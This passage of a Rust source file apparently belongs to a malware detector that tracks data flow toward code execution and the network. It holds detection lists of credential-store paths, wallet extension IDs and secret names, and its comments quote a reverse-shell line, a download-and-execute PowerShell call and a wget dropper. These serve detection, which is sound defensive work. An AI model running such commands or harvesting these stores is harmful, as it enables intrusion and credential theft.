//! Data flow inside one file, from sources (network reads, decoders,
//! credential stores, the environment) to sinks (code execution, processes,
//! the network). A name carries every label an assignment to it in its scope
//! gives it, and a function name carries the labels of what it returns: that
//! over-approximates, but sinks are few and specific, and renaming a value
//! through variables or helper functions does not hide it. One order is
//! kept: a plain name read in its own function (or at module level) holds
//! what was assigned to it up to that line, or anywhere in a loop around the
//! read (see [`Flow::labels_at`]), so a name given a new value after a
//! command ran did not hand that value to the command.

use rustc_hash::{FxHashMap as HashMap, FxHashSet as HashSet};

use crate::dotted::{NameFilter, split_last};
use crate::facts::{Arg, Assign, Facts};

/// What a value may hold, as bits.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Labels(u32);

impl Labels {
    pub const NONE: Labels = Labels(0);
    /// Decoded or de-obfuscated (base64, zlib, marshal, rot13, hex, chr joins, reversed).
    pub const DECODED: Labels = Labels(1);
    /// Read from the network.
    pub const FETCHED: Labels = Labels(2);
    /// Read from a credential store (browser, SSH, cloud, chat tokens): a path into one, or what was read from it.
    pub const CREDENTIAL: Labels = Labels(4);
    /// The whole environment.
    pub const ENVIRONMENT: Labels = Labels(8);
    /// A path into the Windows Startup folder.
    pub const STARTUP: Labels = Labels(16);
    /// A path into the user's own files (home, Documents, Desktop, whole drives).
    pub const USER_DATA: Labels = Labels(32);
    /// Names found by walking or listing folders.
    pub const BULK: Labels = Labels(64);
    /// A command line of the kind only attack tooling needs.
    pub const HOSTILE: Labels = Labels(128);
    /// Encoded for transport (hex, base64, base32): data being smuggled out.
    pub const ENCODED: Labels = Labels(256);
    /// A Windows Run (or Winlogon) registry key path.
    pub const RUN_KEY: Labels = Labels(512);
    /// Who and where the code runs: user name, host name, working folder,
    /// machine id. Harmless alone; sent out at install time it is a beacon.
    pub const HOST_IDENTITY: Labels = Labels(1024);
    /// An address written out in the code: a literal URL or IPv4 address.
    /// Data sent there goes where the author chose, not where a user configured.
    pub const ADDRESS: Labels = Labels(2048);
    /// A secret: an environment variable named like a token, password or
    /// key, or a wallet's recovery phrase by its name (`mnemonic`).
    /// (CREDENTIAL is a credential *store*: a file.)
    pub const SECRET: Labels = Labels(4096);
    /// A wallet's recovery phrase (with SECRET): whoever holds it owns the
    /// wallet, so no service needs it, whenever it is sent.
    pub const WALLET: Labels = Labels(8192);
    /// A command line that downloads to a file (`curl.exe -L URL -o x.exe`,
    /// `wget -O`, `Invoke-WebRequest -OutFile`): a download to disk, however
    /// the process that runs it is started.
    pub const DOWNLOAD_COMMAND: Labels = Labels(16384);
    /// One command line that downloads a file and starts it (`wget URL &&
    /// chmod +x f && ./f`, `curl -o x.exe URL && start x.exe`): a dropper
    /// in a single string, whatever process runs it.
    pub const DOWNLOAD_AND_RUN: Labels = Labels(32768);
    /// An address on this machine (`http://localhost:8000`, `127.0.0.1`,
    /// `[::1]`): what is sent there does not leave the computer (a local
    /// model server, a language server, a notebook kernel). Not an ADDRESS.
    pub const LOOPBACK: Labels = Labels(65536);
    /// A URL of a host the author reads from ([`crate::hosts::names_author_host`]):
    /// a raw IP, a paste site, a webhook, a tunnel.
    pub const AUTHOR_HOST: Labels = Labels(131072);
    /// A path into a folder whose programs start at login on macOS or a
    /// Linux desktop (`~/Library/LaunchAgents`, `~/.config/autostart`).
    pub const LOGIN_AGENT: Labels = Labels(262144);
    /// A path another program reads and acts on by itself, later: a git
    /// hook, IPython's start-up folder, VS Code's tasks, pip's configuration
    /// (the index every later install uses), pyRevit's extensions folder
    /// (whose scripts Revit runs). See [`auto_run`].
    pub const AUTO_RUN: Labels = Labels(524288);

    pub fn has(self, other: Labels) -> bool {
        self.0 & other.0 != 0
    }

    /// Both sets (`|` for constants).
    pub const fn or(self, other: Labels) -> Labels {
        Labels(self.0 | other.0)
    }

    /// The labels of `self` that `other` also has.
    pub fn and(self, other: Labels) -> Labels {
        Labels(self.0 & other.0)
    }

    pub fn is_empty(self) -> bool {
        self.0 == 0
    }
}

impl std::ops::BitOr for Labels {
    type Output = Labels;
    fn bitor(self, rhs: Labels) -> Labels {
        Labels(self.0 | rhs.0)
    }
}

impl std::ops::BitOrAssign for Labels {
    fn bitor_assign(&mut self, rhs: Labels) {
        self.0 |= rhs.0;
    }
}

pub const DECODERS: &[&str] = &[
    "base64.b64decode",
    "base64.b32decode",
    "base64.b16decode",
    "base64.a85decode",
    "base64.b85decode",
    "base64.standard_b64decode",
    "base64.urlsafe_b64decode",
    "base64.decodestring",
    "base64.decodebytes",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "marshal.loads",
    "codecs.decode",
    "binascii.unhexlify",
    "binascii.a2b_base64",
    "binascii.a2b_hex",
    "bytes.fromhex",
    "bytearray.fromhex",
    "System.Convert.FromBase64String",
    "Convert.FromBase64String",
    "?.FromBase64String",
    "?.reversed",
    "reversed",
    "chr",
    // A substitution cipher is a table built with maketrans: the table is
    // the decoder (what `.translate(table)` gives reads it). `translate`
    // alone maps characters by a table anything may be (the standard
    // library's encoding-name normaliser).
    "str.maketrans",
    "bytes.maketrans",
    "string.maketrans",
    "?.maketrans",
    "?.xor",
    // Encrypted payloads (Fernet, AES) are hidden the same way: what
    // `decrypt` gives is read by the rules like any decoded constant.
    "?.decrypt",
];

/// Tab, line feed, carriage return and space: `chr` of one of these,
/// written as a number, is a separator, not a decoder (see the front-ends).
pub const WHITESPACE_CODES: &[u64] = &[9, 10, 13, 32];

/// What a front-end calls a `maketrans` table of a few characters written
/// out (`str.maketrans({" ": "\\ "})`, shell escaping; `"-_"` to `"+/"`):
/// it escapes or renames characters, it deciphers nothing, so it is not
/// among [`DECODERS`]. A substitution cipher maps an alphabet: at least
/// [`CIPHER_ALPHABET`] characters, or a table the code computes.
pub const ESCAPE_TABLE: &str = "?.<escape table>";
/// See [`ESCAPE_TABLE`].
pub const CIPHER_ALPHABET: usize = 8;

/// Calls whose result may be text a payload is kept in, besides decoders
/// and fetchers (see [`yields_text`]).
const TEXT_CALLS: &[&str] = &[
    "str",
    "bytes",
    "bytearray",
    "input",
    "?.read",
    "?.readline",
    "?.read_text",
    "?.read_bytes",
    "?.get_data",
    "?.getvalue",
    "?.recv",
    "?.decode",
    "?.encode",
    "?.join",
    "?.replace",
    "?.strip",
    "?.lstrip",
    "?.rstrip",
    "?.format",
    "?.hex",
    "?.lower",
    "?.upper",
    "?.translate",
    "?.tobytes",
];

/// Whether reversing what `callee` returns (`x(...)[::-1]`) may read text
/// stored backwards: a decoder's, a download's or a reader's result
/// (`b64decode(s)[::-1]`, `f.read()[::-1]`). Other calls give sequences
/// (`list(reqs)[::-1]`, `dist.requires(extras)[::-1]` in pkg_resources'
/// resolver): walking one backwards decodes nothing.
pub fn yields_text(callee: &str) -> bool {
    matches(callee, names!(DECODERS)) || matches(callee, names!(FETCHERS)) || matches(callee, names!(TEXT_CALLS))
}

/// Calls that encode data for transport.
const ENCODERS: &[&str] = &[
    "binascii.hexlify",
    "binascii.b2a_hex",
    "binascii.b2a_base64",
    "base64.b64encode",
    "base64.b32encode",
    "base64.b16encode",
    "base64.urlsafe_b64encode",
    "base64.encodebytes",
    "?.hex",
];

/// Calls whose result is data from the network.
pub const FETCHERS: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.urlopen",
    "urllib2.urlopen",
    "requests.get",
    "requests.post",
    "requests.request",
    "requests.Session.get",
    "httpx.get",
    "?.recv",
    "?.recv_into",
    "?.DownloadString",
    "?.DownloadData",
    "?.GetStringAsync",
    "?.GetByteArrayAsync",
    "?.urlopen",
    "?.getresponse",
    "pastebin",
    // A path a download was saved to (see [`crate::facts::DOWNLOADS_TO`]).
    "<downloads to>",
];

/// Strings that point into credential stores.
pub const CREDENTIAL_MARKERS: &[&str] = &[
    "login data",
    "local state",
    "\\cookies",
    "/cookies",
    "web data",
    "local storage\\leveldb",
    "local storage/leveldb",
    "\\leveldb",
    "/leveldb",
    "id_rsa",
    "id_ed25519",
    ".ssh\\",
    ".ssh/",
    ".aws\\",
    ".aws/",
    "aws_secret_access_key",
    "wallet.dat",
    "\\exodus",
    "exodus.wallet",
    "seed.seco",
    ".electrum/",
    ".electrum\\",
    "electrum\\wallets",
    "electrum/wallets",
    "ethereum\\keystore",
    "ethereum/keystore",
    "metamask",
    // Browser wallets by their extension's id (their vault is a leveldb in
    // the profile's `Local Extension Settings/<id>`): MetaMask, Phantom,
    // Binance, Coinbase, TronLink.
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "fhbohimaelbohpjbbldcngcnapndodjp",
    "hnfanknocfeofbddgcijnmhnfnkdnaad",
    "ibnejdfjmmkpcnlpebklmnkoeoihofec",
    "recentservers.xml",
    "telegram desktop",
    "key4.db",
    "logins.json",
    ".git-credentials",
    ".pypirc",
    // Developer tools' sign-in files the 2024-2025 credential stealers
    // collect beside `.ssh` and `.aws`: Kubernetes, npm, netrc logins, the
    // Google Cloud and Azure command lines, GitHub's command line; and the
    // shells' histories (tokens typed on command lines). Not Docker's
    // `config.json`: tools that pull images read it to sign in to the
    // registry it names, and nothing tells that registry from another host.
    ".kube/config",
    ".kube\\config",
    ".npmrc",
    ".netrc",
    "_netrc",
    "gcloud/credentials.db",
    "gcloud\\credentials.db",
    "gcloud/access_tokens.db",
    "gcloud\\access_tokens.db",
    ".azure/accesstokens.json",
    ".azure\\accesstokens.json",
    ".azure/msal_token_cache",
    ".azure\\msal_token_cache",
    "gh/hosts.yml",
    "gh\\hosts.yml",
    ".bash_history",
    ".zsh_history",
    // The macOS keychain as a file (`~/Library/Keychains/login.keychain-db`)
    // or through the `security` tool that reads it (`find-generic-password
    // -wa Chrome` gives the key Chrome encrypts its passwords with). The
    // word alone is a setting's or a message's (`"keychain"` as a storage
    // choice, `keychainAccess`), no store.
    "keychains/",
    "keychains\\",
    ".keychain",
    "dump-keychain",
    "find-generic-password",
    "find-internet-password",
];

/// Environment variable names that hold secrets.
const SECRET_VARIABLES: &[&str] = &["token", "secret", "password", "passwd", "api_key", "apikey", "access_key"];

/// A variable whose own name says it holds a secret (`token`,
/// `self.password`, `api_key`): its last segment names one.
pub fn names_a_secret(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
    SECRET_VARIABLES.iter().any(|v| last.contains(v))
}

/// A literal that names a place on the network: a URL with a host, or an
/// IPv4 address (`"203.0.113.5"`).
pub fn is_address(s: &str) -> bool {
    // Called on every string of every expression a sink depends on: no
    // allocation, and most strings are rejected on their first byte.
    let t = s.trim().as_bytes();
    if is_loopback(t) {
        return false;
    }
    match t.first() {
        Some(b) if b.is_ascii_digit() && is_bot_token(t) => true,
        Some(b) if b.is_ascii_digit() => {
            let mut parts = 0;
            for part in t.split(|&b| b == b'.') {
                parts += 1;
                if parts > 4 || part.is_empty() || part.len() > 3 || !part.iter().all(u8::is_ascii_digit) {
                    return false;
                }
            }
            parts == 4
        }
        // A URL names its host: a template whose host is a placeholder
        // (`"http://%s:%d" % (host, port)`, `"http://{}/".format(h)`) is
        // filled from elsewhere.
        Some(b'h' | b'H' | b'f' | b'F' | b't' | b'T' | b'w' | b'W') => {
            ["http://", "https://", "ftp://", "tcp://", "ws://", "wss://"].iter().any(|p| {
                t.len() > p.len()
                    && t[..p.len()].eq_ignore_ascii_case(p.as_bytes())
                    && (t[p.len()].is_ascii_alphanumeric() || t[p.len()] == b'[')
            })
        }
        _ => false,
    }
}

/// An address on this machine, as a URL or a bare IPv4 address: the host
/// is `localhost`, `127.x.x.x` or `[::1]` (see [`Labels::LOOPBACK`]).
/// `0.0.0.0` is not one: it is where servers listen, and as a destination
/// it is a placeholder for the real one (a stealer's template posting to
/// `http://0.0.0.0:8000`).
pub fn is_loopback(t: &[u8]) -> bool {
    // Most strings are rejected on their first byte.
    if !matches!(t.first(), Some(b'h' | b'H' | b'w' | b'W' | b't' | b'T' | b'l' | b'L' | b'1' | b'0' | b'[')) {
        return false;
    }
    let rest = match t.iter().position(|&b| b == b':') {
        Some(i) if t[i..].starts_with(b"://") && t[..i].iter().all(u8::is_ascii_alphabetic) => &t[i + 3..],
        _ => t,
    };
    let end = rest.iter().position(|&b| matches!(b, b'/' | b'?' | b'#')).unwrap_or(rest.len());
    let hostport = &rest[..end];
    let host = if hostport.starts_with(b"[") {
        hostport.split(|&b| b == b']').next().map_or(hostport, |h| &h[1..])
    } else {
        hostport.split(|&b| b == b':').next().unwrap_or(hostport)
    };
    host.eq_ignore_ascii_case(b"localhost")
        || host == b"::1"
        || host.starts_with(b"127.") && host.len() <= 15 && host.iter().all(|&b| b.is_ascii_digit() || b == b'.')
}

/// A Telegram bot's token (`123456789:AA` and 33 more characters): it says
/// which bot, and so whose chat, receives what the code sends, as a URL
/// would.
pub fn is_bot_token(t: &[u8]) -> bool {
    let Some(colon) = t.iter().position(|&b| b == b':') else { return false };
    let (id, key) = (&t[..colon], &t[colon + 1..]);
    (6..=12).contains(&id.len())
        && id.iter().all(u8::is_ascii_digit)
        && key.len() == 35
        && key.starts_with(b"AA")
        && key.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// Command lines that print who runs the code or on which machine.
const IDENTITY_COMMANDS: &[&str] = &["whoami", "hostname", "id -un", "echo %username%", "echo %computername%"];

/// Calls that say who and where the code runs (the facts an install-time
/// beacon reports home).
pub const HOST_IDENTITY_CALLS: &[&str] = &[
    "getpass.getuser",
    "os.getlogin",
    "os.getcwd",
    "os.uname",
    "platform.node",
    "platform.uname",
    "socket.gethostname",
    "socket.getfqdn",
    "uuid.getnode",
    "socket.gethostbyname",
];

/// Services that answer the caller's public IP address: what a request to
/// one returns says where the code runs, as a host name does.
const IP_ECHO_HOSTS: &[&str] = &[
    "api.ipify.org",
    "api64.ipify.org",
    "ipinfo.io",
    "ifconfig.me",
    "ifconfig.co",
    "icanhazip.com",
    "checkip.amazonaws.com",
    "ip-api.com",
    "ipapi.co",
    "ident.me",
    "myexternalip.com",
    "wtfismyip.com",
    "ipecho.net",
    "api.myip.com",
    "httpbin.org/ip",
];

/// Names a wallet's recovery secret goes by (a parameter, variable or
/// attribute): whoever holds it owns the wallet, and no service a wallet
/// talks to needs it. (A private key is left out: it is what signing code
/// passes around before it sends a signature, not the key.)
const WALLET_SECRET_NAMES: &[&str] = &[
    "mnemonic",
    "mnemonics",
    "mnemonic_phrase",
    "mnemonic_words",
    "seed_phrase",
    "seedphrase",
    "seed_words",
    "recovery_phrase",
    "secret_phrase",
    "wallet_seed",
];

/// Environment variables that name the user or the machine.
const HOST_VARIABLES: &[&str] = &["USER", "USERNAME", "LOGNAME", "COMPUTERNAME", "HOSTNAME", "USERDOMAIN"];

/// A list of call or attribute names, each exact (`os.system`) or, written
/// `?.write`, any name that ends in that method. Built once per list (see
/// [`names!`]) so that a lookup is two hash probes, not a scan: every call of
/// every file is checked against dozens of these lists.
pub struct Names {
    exact: HashSet<&'static str>,
    /// Last segments of `?.method` entries.
    methods: HashSet<&'static str>,
    /// `?.a.b` entries, as `.a.b`.
    dotted: Vec<&'static str>,
    /// Most names are in no list: these turn them away before any hashing.
    exact_filter: NameFilter,
    method_filter: NameFilter,
}

impl Names {
    pub fn new(list: &[&'static str]) -> Self {
        let mut names = Names {
            exact: HashSet::default(),
            methods: HashSet::default(),
            dotted: Vec::new(),
            exact_filter: NameFilter::default(),
            method_filter: NameFilter::default(),
        };
        for &l in list {
            names.exact.insert(l);
            names.exact_filter.insert(l);
            if let Some(suffix) = l.strip_prefix("?.") {
                if suffix.contains('.') {
                    names.dotted.push(&l[1..]);
                } else {
                    names.methods.insert(suffix);
                    names.method_filter.insert(suffix);
                }
            }
        }
        names
    }

    pub fn contains(&self, name: &str) -> bool {
        if self.exact_filter.may_contain(name) && self.exact.contains(name) {
            return true;
        }
        if !self.methods.is_empty()
            && let Some((_, method)) = split_last(name)
            && self.method_filter.may_contain(method)
            && self.methods.contains(method)
        {
            return true;
        }
        !self.dotted.is_empty() && self.dotted.iter().any(|d| name.ends_with(d))
    }
}

/// The [`Names`] of a constant list, built on first use at each place it is used.
macro_rules! names {
    ($list:expr) => {{
        static NAMES: std::sync::LazyLock<$crate::flow::Names> =
            std::sync::LazyLock::new(|| $crate::flow::Names::new($list));
        &*NAMES
    }};
}
pub(crate) use names;

pub fn matches(name: &str, names: &Names) -> bool {
    names.contains(name)
}

/// A string that names a credential store, as a path or as one component of a path.
pub fn is_credential_string(s: &str) -> bool {
    mentions_credentials(s) || component(std::slice::from_ref(&s.to_owned()), CREDENTIAL_COMPONENTS)
}

/// A credential store that belongs to a developer tool (SSH keys, cloud
/// profiles, git and PyPI credentials) rather than to another program the
/// user runs (a browser, a chat client, a wallet).
pub fn is_developer_config(s: &str) -> bool {
    const DEVELOPER: &[&str] = &[
        ".ssh",
        ".aws",
        "id_rsa",
        "id_ed25519",
        "aws_secret_access_key",
        ".git-credentials",
        ".pypirc",
        ".kube",
        ".npmrc",
        "netrc",
        "gcloud",
        ".azure",
        "hosts.yml",
    ];
    let lower = s.to_ascii_lowercase();
    DEVELOPER.iter().any(|d| lower.contains(d))
}

pub fn mentions_credentials(s: &str) -> bool {
    // `/cookies` is a browser's store inside a profile folder
    // (`.../Default/Network/Cookies`); alone at the start of a string it is
    // a web endpoint (httpbin's `/cookies/set`).
    CREDENTIAL_AC.find_iter(s).any(|m| {
        let cookies = is_cookies_marker(s, m.start());
        (!cookies || !s[..m.start()].trim().is_empty())
            && !not_a_store(s, m.start(), m.end())
            && !in_option_name(s, m.start())
    })
}

/// Whether the credential marker at `start` is `/cookies` or `\cookies`.
fn is_cookies_marker(text: &str, start: usize) -> bool {
    text[start + 1..].get(..7).is_some_and(|w| w.eq_ignore_ascii_case("cookies"))
}

/// A credential marker that names no secret where it stands:
/// - `/cookies` in a URL is a web endpoint (Amazon's
///   `https://www.amazon.com/ap/exchangetoken/cookies`), also when the URL
///   is an f-string or a sum whose first piece is the scheme and host
///   (`text` is an expression's pieces joined, first piece first);
/// - `.ssh/authorized_keys` and `.ssh/known_hosts` hold public keys and
///   host fingerprints, nothing that signs anyone in (a cloud client's
///   start-up script adding its user's public key to a new machine; adding
///   one written in the code is judged by its own rule).
fn not_a_store(text: &str, start: usize, end: usize) -> bool {
    let url = text.starts_with("http://") || text.starts_with("https://");
    let ssh = text[start..end].eq_ignore_ascii_case(".ssh/") || text[start..end].eq_ignore_ascii_case(".ssh\\");
    url && is_cookies_marker(text, start) || ssh && public_ssh_file(&text[end..])
}

/// Whether `rest` starts with the name of a public file of an SSH folder.
fn public_ssh_file(rest: &str) -> bool {
    let rest = rest.trim_start_matches(['/', '\\']);
    ["authorized_keys", "known_hosts"].iter().any(|n| rest.get(..n.len()).is_some_and(|w| w.eq_ignore_ascii_case(n)))
}

/// Whether byte `at` of `text` lies in a command-line option's name
/// (`--use-mock-keychain`, `--password-store=basic`): the option tells a
/// program how to behave and names no file; a path given as its value
/// (`--user-data-dir=.../Login Data`) still does.
fn in_option_name(text: &str, at: usize) -> bool {
    let word_start = text[..at].rfind(|c: char| c.is_whitespace() || c == '"' || c == '\'').map_or(0, |i| i + 1);
    let word = &text[word_start..at];
    word.starts_with("--") && !word.contains('=')
}

/// Whether the match at `start..end` is the key name `aws_secret_access_key`
/// as a whole string: a field of an API's request body or a configuration
/// option (`{"aws_secret_access_key": key}`, a value the caller holds), not
/// a line of the credentials file, whose path (`.aws/`) is a marker of its
/// own. (Strings arrive joined by `\u{1}`. Other markers stay whole words:
/// a wallet extension's id or `"id_rsa"` alone is how a stealer names them.)
fn names_a_field(text: &str, start: usize, end: usize) -> bool {
    (start == 0 || text.as_bytes()[start - 1] == 1)
        && (end == text.len() || text.as_bytes()[end] == 1)
        && text[start..end].eq_ignore_ascii_case("aws_secret_access_key")
}

fn automaton(needles: &[&str]) -> aho_corasick::AhoCorasick {
    aho_corasick::AhoCorasick::builder().ascii_case_insensitive(true).build(needles).expect("literal needles build")
}

static CREDENTIAL_AC: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| automaton(CREDENTIAL_MARKERS));

/// Needle groups of [`STRING_NEEDLES`], as bits.
const CREDENTIAL_NEEDLE: u16 = 1;
const STARTUP_NEEDLE: u16 = 2;
const START_MENU_NEEDLE: u16 = 4;
const SHELL_STARTUP_NEEDLE: u16 = 8;
const HOSTILE_NEEDLE: u16 = 16;
const RUN_KEY_NEEDLE: u16 = 32;
const SCHTASKS_NEEDLE: u16 = 64;
const CREATE_NEEDLE: u16 = 128;
const DOWNLOAD_TOOL_NEEDLE: u16 = 256;
const LOGIN_AGENT_NEEDLE: u16 = 512;
const AUTO_RUN_NEEDLE: u16 = 1024;

/// Words one of [`auto_run`]'s paths holds: the cheap test before its
/// look at the path's pieces.
const AUTO_RUN_HINTS: &[&str] = &["hooks", "startup", "tasks.json", "pip.conf", "pip.ini", "extensions"];

/// Folders whose programs start at login on macOS (launchd's agents and
/// daemons) and on Linux (XDG autostart, systemd's units for the user and
/// the system): the Startup folder of those systems.
pub(crate) const LOGIN_AGENT_FOLDERS: &[&str] = &[
    "library/launchagents",
    "library/launchdaemons",
    ".config/autostart",
    ".config/systemd/user",
    "etc/systemd/system",
];

/// Every needle the string labels look for, in one case-insensitive
/// automaton, with the groups each belongs to: one pass over an
/// expression's strings answers every question (this runs for every
/// assignment of every file).
/// The automaton, each pattern's groups, and whether it is an evaluator
/// ([`EVALUATORS`]) or a command word (a hostile fragment that starts with
/// a letter).
type Needles = (aho_corasick::AhoCorasick, Vec<u16>, Vec<bool>, Vec<bool>);

static STRING_NEEDLES: std::sync::LazyLock<Needles> = std::sync::LazyLock::new(|| {
    let groups: &[(u16, &[&str])] = &[
        (CREDENTIAL_NEEDLE, CREDENTIAL_MARKERS),
        (STARTUP_NEEDLE, &["startup"]),
        (START_MENU_NEEDLE, &["start menu", "programs"]),
        (SHELL_STARTUP_NEEDLE, &["shell:startup"]),
        (HOSTILE_NEEDLE, HOSTILE_FRAGMENTS),
        (RUN_KEY_NEEDLE, RUN_KEY_PATHS),
        (SCHTASKS_NEEDLE, &["schtasks"]),
        (CREATE_NEEDLE, &["/create"]),
        (DOWNLOAD_TOOL_NEEDLE, HTTP_TOOLS),
        (LOGIN_AGENT_NEEDLE, LOGIN_AGENT_FOLDERS),
        (AUTO_RUN_NEEDLE, AUTO_RUN_HINTS),
    ];
    // A needle in several groups is one pattern with several bits.
    let mut needles: Vec<String> = Vec::new();
    let mut bits: Vec<u16> = Vec::new();
    for (bit, list) in groups {
        for n in *list {
            let n = n.to_ascii_lowercase();
            match needles.iter().position(|x| *x == n) {
                Some(i) => bits[i] |= bit,
                None => {
                    needles.push(n);
                    bits.push(*bit);
                }
            }
        }
    }
    let evaluators = needles.iter().map(|n| EVALUATORS.contains(&n.as_str())).collect();
    let words = needles
        .iter()
        .zip(&bits)
        .map(|(n, b)| b & HOSTILE_NEEDLE != 0 && n.starts_with(|c: char| c.is_ascii_alphabetic()))
        .collect();
    (automaton(&needles.iter().map(String::as_str).collect::<Vec<_>>()), bits, evaluators, words)
});

/// PowerShell's evaluators: hostile when what they run is computed or
/// fetched (`iex (New-Object Net.WebClient).DownloadString(u)`, `iex
/// $decoded`); given a quoted literal, the code they run is written out
/// for a reader (pipenv reading the user's SID with `Invoke-Expression
/// '[...WindowsIdentity]::GetCurrent().user'`).
const EVALUATORS: &[&str] = &["invoke-expression", "iex(", "iex ("];

/// The needle groups found in `text`.
fn string_needles(text: &str) -> u16 {
    let (ac, bits, evaluators, words) = &*STRING_NEEDLES;
    ac.find_overlapping_iter(text).fold(0, |found, m| {
        let i = m.pattern().as_usize();
        let literal = evaluators[i] && text[m.end()..].trim_start().starts_with(['\'', '"']);
        // A command's name starts a word: `ncat ` inside "ffconcat version"
        // (yt-dlp's concat list) names no tool.
        let inside_word = words[i] && m.start() > 0 && text.as_bytes()[m.start() - 1].is_ascii_alphanumeric();
        // A pipe into a shell ends the shell's name: `{id|short}` (a
        // Mercurial template) or `| sha256sum` pipes into no shell.
        let longer_name = pipes_to_shell(&text.as_bytes()[m.start()..m.end()])
            && text.as_bytes().get(m.end()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
        // Bash's `/dev/tcp` with a stream redirected onto it (`bash -i >&
        // /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`) is a shell on a socket;
        // `echo -n > /dev/tcp/h/p` only tests whether a port answers.
        let port_probe = &text[m.start()..m.end()] == "/dev/tcp" && !redirects_a_stream(text);
        // An interactive shell is a reverse shell's when its streams are
        // wired up right after it (`bash -i >& /dev/tcp/h/p 0>&1`, `bash -i
        // 2>&1 | nc h p`); `bash -i script.sh 2>&1` runs a script with the
        // user's `.bashrc` read first (a cloud tool's job runner; its path
        // often a placeholder, or the string's end in an f-string).
        let script_run = text[m.start()..m.end()].eq_ignore_ascii_case("bash -i") && !wires_streams(&text[m.end()..]);
        let mut b = bits[i];
        if literal || inside_word || longer_name || port_probe || script_run {
            b &= !HOSTILE_NEEDLE;
        }
        if b & CREDENTIAL_NEEDLE != 0
            && (in_option_name(text, m.start())
                || names_a_field(text, m.start(), m.end())
                || not_a_store(text, m.start(), m.end()))
        {
            b &= !CREDENTIAL_NEEDLE;
        }
        found | b
    })
}

/// A keyword argument the call uses up, not one whose value comes back in
/// what it returns: a process starter's `env=` is the environment the
/// child runs with (`Popen(cmd, env=os.environ).stdout` is what the command
/// prints); a request's `headers=` and `auth=` are presented to the server,
/// whose response does not hold them. (An argument of the call itself still
/// carries its value, for the rules that judge the call; a `Request(url,
/// headers=h)` object, sent later, keeps its headers.)
///
/// `keyword` is `**` for a dictionary of options handed over whole
/// (`Popen(cmd, **kwargs)` with `kwargs = {"env": child_env, "stdout":
/// log}`): a process's options configure the child, as its `env=` does.
/// GitPython's `Repo.clone_from(url, path, env=...)` runs `git clone` with
/// it: the repository it returns holds the cloned files.
pub fn keyword_stays_in_call(callee: &str, keyword: &str) -> bool {
    match keyword {
        "env" | "**" => {
            callee.starts_with("subprocess.")
                || callee.starts_with("asyncio.create_subprocess_")
                || keyword == "env" && callee.ends_with("Repo.clone_from")
        }
        "headers" | "auth" => matches!(
            callee.rsplit('.').next().unwrap_or(callee),
            "get" | "post" | "put" | "patch" | "delete" | "head" | "options" | "request" | "urlopen"
        ),
        _ => false,
    }
}

/// Calls whose result holds none of what they are given, as text: a
/// compiled regular expression matches other text (`PATTERN.match(s)` gives
/// pieces of `s`), so what built the pattern (dirtyjson's constants, from
/// bytes reversed for endianness) does not reach what it matches; a length
/// is a number, nothing of what it counts (a launcher's process count from
/// its decoded host list). The front-ends keep the call's name and read
/// none of its arguments.
pub fn result_holds_no_argument(callee: &str) -> bool {
    matches!(callee, "re.compile" | "regex.compile" | "len")
}

/// Whether a shell's arguments `rest` start with a redirection or a pipe
/// (`>& /dev/tcp/...`, `2>&1 | nc ...`, `0<&196`), not a script to run.
/// Errors merged into the output (`2>&1`, a logging idiom) wire nothing up
/// by themselves: what follows decides (a pipe into `nc` does).
fn wires_streams(rest: &str) -> bool {
    let mut rest = rest.trim_start_matches([' ', '\t']);
    while let Some(r) = rest.strip_prefix("2>&1") {
        rest = r.trim_start_matches([' ', '\t']);
    }
    rest.trim_start_matches(|c: char| c.is_ascii_digit()).starts_with(['>', '<', '|'])
}

/// String methods whose result, reversed back, is the forward text changed
/// in place: `s[::-1].replace(a[::-1], b[::-1], 1)[::-1]` replaces from
/// the right (both front-ends read such an expression as forward text).
pub const REVERSIBLE_TEXT_METHODS: &[&str] = &["replace", "strip", "lstrip", "rstrip", "lower", "upper", "casefold"];

/// Whether a command line redirects a stream onto what it opens (`>&`,
/// `<&`, `<>`, `0>&1`), as a shell handed to `/dev/tcp` does.
fn redirects_a_stream(text: &str) -> bool {
    [">&", "<&", "<>"].iter().any(|r| text.contains(r))
}

/// `| sh`, `|bash` and the like: a needle of [`HOSTILE_FRAGMENTS`] that
/// pipes into a shell (its match must end the shell's name).
fn pipes_to_shell(needle: &[u8]) -> bool {
    // The needles are matched in any case (`|She`, `| BASH`).
    needle.first() == Some(&b'|') && needle.len() >= 2 && needle[needle.len() - 2..].eq_ignore_ascii_case(b"sh")
}

/// Command-line HTTP clients: what they are given goes out, and with an
/// output file ([`names_output_file`]) what they fetch lands on disk.
pub const HTTP_TOOLS: &[&str] =
    &["curl", "wget", "invoke-webrequest", "iwr", "invoke-restmethod", "start-bitstransfer"];

/// A command line's output-file option, as curl, wget and PowerShell's web
/// cmdlets spell it (`-o out.exe`, `-O`, `--output`, `-OutFile`).
fn names_output_file(s: &str) -> bool {
    s.split(|c: char| c.is_whitespace() || c == '"' || c == '\'').any(|w| {
        ["-o", "--output", "-outfile", "--output-document", "-destination"].iter().any(|f| w.eq_ignore_ascii_case(f))
    })
}

/// One command line (lower case) that downloads to a file and then starts
/// a program from the disk: an HTTP tool writing a file (`wget URL` writes
/// one unless told `-O -`; curl and PowerShell's cmdlets with an output
/// option), followed by making a file executable or running one by path
/// (`chmod +x`, `./x`, `start x.exe`, `Start-Process`, PowerShell's `& $f`
/// and `.\x.exe`). Installers a user
/// runs do this too; the rules judge it by when it runs.
pub fn downloads_and_runs(cmd: &str) -> bool {
    let wget_to_file =
        cmd.split(|c: char| !c.is_ascii_alphanumeric() && c != '.').any(|w| w == "wget" || w == "wget.exe")
            && !["-o -", "-o-", "-qo-", "-qo -", "--output-document=-", "--output-document -", "/dev/stdout"]
                .iter()
                .any(|f| cmd.contains(f));
    let to_file = wget_to_file || names_output_file(cmd) && HTTP_TOOLS.iter().any(|t| cmd.contains(t));
    to_file
        && [
            "chmod +x",
            "chmod 7",
            "chmod 5",
            "chmod a+x",
            "chmod u+x",
